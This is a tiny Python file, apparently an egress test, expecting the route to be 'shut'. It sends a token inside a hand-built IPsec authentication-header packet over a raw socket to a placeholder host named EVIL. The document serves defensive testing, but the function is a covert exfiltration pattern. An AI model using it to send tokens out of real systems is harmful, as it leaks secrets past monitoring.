"""
how: IPsec's authentication header
expect: shut
"""

from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 51, bytes([17, 4, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1]) + token.encode())
